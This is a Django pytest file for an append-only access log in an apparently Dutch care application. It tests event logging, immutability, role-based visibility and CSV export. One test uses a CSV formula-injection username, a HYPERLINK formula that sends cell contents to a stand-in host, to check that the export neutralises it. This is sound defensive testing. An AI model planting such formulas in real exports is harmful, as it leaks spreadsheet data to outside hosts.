"""The access log: a row for every kind of event, identifiers only, append-only, searchable."""

import csv
import io

import pytest
from django.contrib.auth.models import Group
from django.db import DatabaseError, connection, transaction
from django.test import Client
from django.urls import reverse
from django_otp.plugins.otp_totp.models import TOTPDevice

from accounts.roles import PRIVACY_OFFICER_GROUP
from audit.models import AccessEvent, AppendOnlyError
from tests.factories import DEFAULT_PASSWORD, ObservationFactory, UserFactory

pytestmark = pytest.mark.django_db

MARKER = "GEHEIME-NOTITIE-7f3a"


def _actions():
    return set(AccessEvent.objects.values_list("action", "outcome", "target"))


def _edit(observation):
    data = {
        "lock_version": type(observation).objects.get(pk=observation.pk).lock_version,
        "caregiver": "moeder",
        "visit_date": observation.visit_date.isoformat(),
        "setting": "spel",
        "save": "1",
    }
    item = observation.version.items.first()
    data[f"item_{item.pk}"] = str(observation.version.scale_options.first().pk)
    data[f"note_{item.pk}"] = MARKER
    return data


def test_every_kind_of_event_is_logged_without_note_text(
    client, professional, team_lead, outsider, family, child, submitted
):
    observation = ObservationFactory(child=child, professional=professional)
    Client().post(reverse("login"), {"username": "medewerker", "password": "fout"})
    client.force_login(professional)
    client.get(reverse("observaties:family-detail", args=[family.pk]))
    client.post(
        reverse("observaties:family-create"),
        {"team": family.team_id, "case_reference": "NRD-0099", "opened_on": "2025-02-01"},
    )
    edit = reverse("observaties:observation-edit", args=[observation.pk])
    client.post(edit, _edit(observation))
    client.get(reverse("observaties:observation-pdf", args=[observation.pk]))
    client.force_login(team_lead)
    client.post(reverse("observaties:observation-review", args=[submitted.pk]), {"approve": "1"})
    client.get(reverse("observaties:team-overview-csv", args=[family.team_id]))
    client.force_login(outsider)
    client.get(reverse("observaties:family-detail", args=[family.pk]))

    events = AccessEvent.objects.all()
    kinds = {(event.action, event.outcome) for event in events}
    assert {
        ("inloggen-mislukt", "geweigerd"),
        ("bekijken", "toegestaan"),
        ("aanmaken", "toegestaan"),
        ("wijzigen", "toegestaan"),
        ("downloaden", "toegestaan"),
        ("statuswijziging", "toegestaan"),
        ("exporteren", "toegestaan"),
        ("bekijken", "geweigerd"),
    } <= kinds
    refused = events.get(outcome="geweigerd", action="bekijken")
    assert (refused.username, refused.family_id, refused.target) == (
        "buitenstaander",
        family.pk,
        "family-detail",
    )
    approval = events.get(action="statuswijziging", target="goedgekeurd")
    assert (approval.role, approval.observation_id, approval.family_id, approval.team_id) == (
        "teamleider",
        submitted.pk,
        family.pk,
        family.team_id,
    )
    assert approval.ip_address == "127.0.0.1"
    for event in events:
        assert all(MARKER not in str(value) for value in vars(event).values())


def test_a_login_is_logged(professional):
    Client().post(reverse("login"), {"username": "medewerker", "password": DEFAULT_PASSWORD})
    event = AccessEvent.objects.get(action="inloggen")
    assert (event.user_id, event.role, event.outcome) == (
        professional.pk,
        "medewerker",
        "toegestaan",
    )


def test_a_row_cannot_be_changed_or_deleted(professional):
    event = AccessEvent.objects.create(action="bekijken", outcome="toegestaan", username="x")
    event.target = "anders"
    with pytest.raises(AppendOnlyError):
        event.save()
    with pytest.raises(AppendOnlyError):
        event.delete()
    with pytest.raises(AppendOnlyError):
        AccessEvent.objects.filter(pk=event.pk).update(target="anders")
    with pytest.raises(AppendOnlyError):
        AccessEvent.objects.all().delete()
    for statement in (
        "UPDATE audit_accessevent SET target = 'anders'",
        "DELETE FROM audit_accessevent",
    ):
        with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
            cursor.execute(statement)
    assert AccessEvent.objects.get(pk=event.pk).target == ""


def test_the_admin_shows_the_log_read_only(client, professional):
    superuser = UserFactory(username="root", is_staff=True, is_superuser=True)
    TOTPDevice.objects.create(user=superuser, name="Testtelefoon", confirmed=True)
    event = AccessEvent.objects.create(action="bekijken", outcome="toegestaan", username="x")
    client.force_login(superuser)
    url = reverse("admin:audit_accessevent_change", args=[event.pk])
    response = client.get(url)
    assert response.status_code == 200
    assert 'name="_save"' not in response.content.decode()
    assert client.post(url, {"target": "anders"}).status_code == 403
    delete = reverse("admin:audit_accessevent_delete", args=[event.pk])
    assert client.post(delete, {"post": "yes"}).status_code == 403
    assert AccessEvent.objects.filter(pk=event.pk).exists()


def test_team_leads_see_only_their_teams_events(
    client, team_lead, other_lead, family, professional
):
    client.force_login(professional)
    client.get(reverse("observaties:family-detail", args=[family.pk]))
    client.force_login(team_lead)
    content = client.get(reverse("audit:event-list")).content.decode()
    assert "medewerker" in content
    client.force_login(other_lead)
    content = client.get(reverse("audit:event-list")).content.decode()
    assert "family-detail" not in content


def test_professionals_do_not_see_the_log(client, professional):
    client.force_login(professional)
    assert client.get(reverse("audit:event-list")).status_code == 404


def test_the_privacy_officer_searches_and_exports(client, professional, family, observation):
    client.force_login(professional)
    client.get(reverse("observaties:family-detail", args=[family.pk]))
    officer = UserFactory(username="privacy")
    officer.groups.add(Group.objects.get(name=PRIVACY_OFFICER_GROUP))
    client.force_login(officer)
    response = client.get(
        reverse("audit:event-csv"),
        {"family": family.pk, "user": "medewerker", "start": "2020-01-01"},
    )
    rows = list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))
    assert rows[0][0] == "tijdstip"
    assert any(row[1] == "medewerker" and row[6] == str(family.pk) for row in rows[1:])
    assert all(row[6] == str(family.pk) for row in rows[1:])
    assert AccessEvent.objects.filter(username="privacy", action="exporteren").exists()
    response = client.get(reverse("audit:event-list"), {"start": "geen datum"})
    assert response.status_code == 200
    assert "Voer een geldige datum in" in response.content.decode()


def test_a_user_name_typed_as_a_formula_stays_text_in_the_export(client):
    hostile = '=HYPERLINK("http://elders.example/?"&A1;"klik")'
    Client().post(reverse("login"), {"username": hostile, "password": "fout"})
    officer = UserFactory(username="privacy")
    officer.groups.add(Group.objects.get(name=PRIVACY_OFFICER_GROUP))
    client.force_login(officer)
    response = client.get(reverse("audit:event-csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode()), delimiter=";"))
    names = [row[1] for row in rows[1:]]
    assert "'" + hostile in names
    assert hostile not in names
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_team_leads_see_outsiders_refused_on_their_families(
    client, team_lead, outsider, family, child, submitted
):
    client.force_login(outsider)
    for url in (
        reverse("observaties:family-detail", args=[family.pk]),
        reverse("observaties:child-pdf", args=[child.pk]),
        reverse("observaties:observation-discard", args=[submitted.pk]),
    ):
        assert client.get(url).status_code == 404
    assert (
        client.post(reverse("observaties:observation-reopen", args=[submitted.pk])).status_code
        == 404
    )

    refused = AccessEvent.objects.filter(outcome="geweigerd", username="buitenstaander")
    assert sorted(refused.values_list("action", "target", "family_id", "observation_id")) == [
        ("bekijken", "family-detail", family.pk, None),
        ("bekijken", "observation-discard", family.pk, submitted.pk),
        ("downloaden", f"child-pdf:{child.pk}", family.pk, None),
        ("statuswijziging", "observation-reopen", family.pk, submitted.pk),
    ]
    client.force_login(team_lead)
    content = client.get(reverse("audit:event-list"), {"user": "buitenstaander"}).content.decode()
    assert content.count("geweigerd") == 4


def test_reading_the_access_log_is_logged(client, team_lead):
    client.force_login(team_lead)
    client.get(reverse("audit:event-list"))
    assert AccessEvent.objects.filter(
        username="teamleider", action="bekijken", target="toegangslog"
    ).exists()
